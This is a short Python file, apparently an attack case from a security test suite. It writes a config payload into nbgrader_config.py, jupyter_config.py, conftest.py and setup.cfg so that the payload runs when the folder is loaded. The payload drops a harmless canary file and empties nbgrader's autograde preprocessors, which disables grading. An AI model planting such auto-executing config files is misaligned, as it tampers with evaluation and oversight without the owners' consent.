"""
what: an nbgrader_config.py of its own, and a notebook of that name in every folder
source: own
"""

from pathlib import Path

CONFIG = """
open("/tmp/specdec-canary-config", "w").write("ran")
c = get_config()
c.Autograde.autograde_preprocessors = []
"""


def attack(folder: Path) -> None:
    for name in ("nbgrader_config.py", "jupyter_config.py", "conftest.py", "setup.cfg"):
        (folder / name).write_text(CONFIG, encoding="utf-8")
